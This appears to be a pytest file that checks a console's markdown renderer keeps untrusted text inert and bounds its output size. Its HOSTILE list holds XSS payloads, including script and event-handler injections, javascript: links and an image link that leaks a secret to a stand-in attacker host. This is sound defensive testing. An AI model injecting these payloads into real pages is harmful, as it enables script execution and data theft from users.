"""What others wrote is shown as text: no HTML of theirs, no links, no pictures."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from flywheel.serve.console.markup import excerpt, markdown

KNOWN = re.compile(
    r"</?(?:p|em|strong|code|pre|ul|ol|li|blockquote|hr|br|table|thead|tbody|tr|th|td|div)"
    r'(?: class="(?:heading|table|scroll|language-[^"<>]*)"| tabindex="0"| start="\d+"'
    r'| scope="col")*\s?/?>'
)

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[here](javascript:alert(1))",
    "![](https://evil.example/?q=secret)",
    "<https://evil.example>",
    "[a]: https://evil.example\n\n[a]",
    "`<b>`",
    "| a | b |\n|---|---|\n| <svg onload=alert(1)> | [x](data:text/html,1) |",
    '```html" onclick="alert(1)\n</code><script>\n```',
    "# <iframe src=x>",
    "&lt;script&gt;&#x3c;b>",
    "<!-- -->\n<style>*{}</style>",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_markup_of_others_stays_text(text: str) -> None:
    shown = markdown(text)
    assert "<" not in KNOWN.sub("", shown)
    assert "href" not in KNOWN.sub("", shown) or "href" in text


@pytest.mark.parametrize("end", ["\n", "\r", "\r\n"])
@pytest.mark.parametrize("within", ["|", "|\u2028", "|\x0b", "\\||"])
def test_short_rows_of_a_wide_table_are_not_filled_up_for_ever(end: str, within: str) -> None:
    head = within * 60
    text = f"|{head}{end}|{'-|' * 60}{end}" + f"|{end}" * 500
    assert len(markdown(text)) < 20 * len(text)


def test_how_a_table_is_aligned_is_no_style() -> None:
    assert "style" not in markdown("| a | b |\n|:-:|--:|\n| 1 | 2 |")


@given(st.text(alphabet="<>&\"'`[]()!#|-*_\\\n ahrefscipt:=/。好", max_size=200))
def test_nothing_but_known_elements_comes_out(text: str) -> None:
    assert "<" not in KNOWN.sub("", markdown(text))


def test_what_documents_are_shaped_like_is_shown() -> None:
    shown = markdown("# 儿童锁\n\n第一行\n第二行\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- x\n- y")
    assert '<p class="heading">儿童锁</p>' in shown
    assert "第一行<br" in shown
    assert "<td>1</td>" in shown and "<li>x</li>" in shown
    assert "<h1" not in shown


def test_an_excerpt_is_one_line_of_words() -> None:
    text = "Under **Charging**:\n\n| Ring | Meaning |\n| --- | --- |\n| Red | <b>Fault</b> |"
    assert excerpt(text) == "Under Charging: Ring Meaning Red <b>Fault</b>"
    assert excerpt("轮胎" * 100, 20) == "轮胎" * 9 + "轮…"
